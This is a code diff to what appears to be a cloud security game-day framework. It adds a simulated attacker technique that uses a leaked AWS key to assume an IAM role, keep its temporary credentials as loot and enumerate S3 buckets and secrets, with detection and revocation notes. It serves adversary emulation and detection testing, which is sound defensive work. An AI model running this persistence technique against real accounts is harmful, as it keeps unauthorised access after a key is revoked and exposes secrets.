@@ -3,7 +3,13 @@
 from __future__ import annotations
 
 from gameday.exercise.attacker.base import TECHNIQUES, AttackerContext, Resource, Technique
-from gameday.scenario.model import BackdoorExistingUser, BackdoorRole, BackdoorUser, LoginProfile
+from gameday.scenario.model import (
+    BackdoorExistingUser,
+    BackdoorRole,
+    BackdoorUser,
+    LoginProfile,
+    RoleSession,
+)
 from gameday.world.decoys import Credential
 
 
@@ -57,6 +63,38 @@ def _backdoor_role(ctx: AttackerContext, params: BackdoorRole) -> None:
     ctx.call("iam", "attach_role_policy", RoleName=params.role_name, PolicyArn=params.policy)
 
 
+def _role_session(ctx: AttackerContext, params: RoleSession) -> None:
+    """Assume the role once; from then on, use the session while it works."""
+    role_arn = f"arn:aws:iam::{ctx.account_id}:role/{params.role_name}"
+    if not any(c.session_token for c in ctx.live_credentials()):
+        ctx.call("iam", "list_roles")
+        minted = ctx.call(
+            "sts",
+            "assume_role",
+            RoleArn=role_arn,
+            RoleSessionName=params.session_name,
+            DurationSeconds=params.duration,
+        )
+        if minted is None:
+            return
+        credentials = minted["Credentials"]
+        ctx.add_credential(
+            Credential(
+                credentials["AccessKeyId"],
+                credentials["SecretAccessKey"],
+                credentials["SessionToken"],
+            )
+        )
+        ctx.outcome.loot["session"] = {
+            "access_key_id": credentials["AccessKeyId"],
+            "role_arn": role_arn,
+        }
+    # The session at work: who am I now, and what can this role read.
+    ctx.call("sts", "get_caller_identity")
+    ctx.call("s3", "list_buckets")
+    ctx.call("secretsmanager", "list_secrets")
+
+
 TECHNIQUES.register(
     Technique(
         id="aws.persistence.iam-create-backdoor-user",
@@ -103,5 +141,19 @@ TECHNIQUES.register(
         detection="CreateRole with an external account in the trust policy; IAM Access Analyzer "
         "external-access findings.",
         detonate=_backdoor_role,
+    )
+)
+TECHNIQUES.register(
+    Technique(
+        id="aws.persistence.sts-role-session",
+        tactic="persistence",
+        title="Take a role's temporary credentials",
+        description="Assumes a role the account trusts itself with and keeps using the "
+        "temporary (ASIA…) credentials: they stay valid after the leaked key is disabled or "
+        "deleted, until they expire, the role is deleted, or the role denies sessions issued "
+        "before a given time (aws:TokenIssueTime, the IAM console's 'Revoke active sessions').",
+        detection="AssumeRole by the leaked key in CloudTrail; calls with an ASIA key whose "
+        "session issuer is that role after the leaked key stopped working.",
+        detonate=_role_session,
     )
 )
